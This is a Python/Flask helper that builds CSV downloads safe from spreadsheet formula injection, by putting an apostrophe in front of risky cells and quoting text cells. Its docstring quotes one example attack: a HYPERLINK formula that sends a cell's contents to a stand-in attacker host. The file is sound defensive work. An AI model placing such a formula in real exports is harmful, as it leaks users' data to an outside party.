"""The one way to write a CSV download: no cell can become a spreadsheet formula.

A spreadsheet treats a cell that starts with `=`, `+`, `-` or `@` as a formula (and a leading tab,
carriage return, line feed or NUL can hide one), so a service named
`=HYPERLINK("http://evil.example/?d="&A2,"Click")` would run in the reader's spreadsheet. Every
text cell that starts with one of those gets a leading apostrophe, which spreadsheets show as text
(OWASP "CSV Injection"; ASVS 5.0 1.2.10). Numbers we computed are left as numbers. Text cells are
quoted (RFC 4180), so a `;` or `,` inside one never starts a new cell in a spreadsheet that splits
on either.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

from flask import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet will show it: text that could start a formula gets a `'`."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, int | float):
        text = str(value)
        return "'" + text if text.startswith(FORMULA_STARTS) else text
    return value


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return buffer.getvalue()


def csv_response(rows: Iterable[Iterable[Any]], filename: str) -> Response:
    """A CSV download of `rows` (the first row the headings), every cell made safe."""
    return Response(csv_text(rows), mimetype="text/csv",
                    headers={"Content-Disposition": f'attachment; filename="{filename}"'})
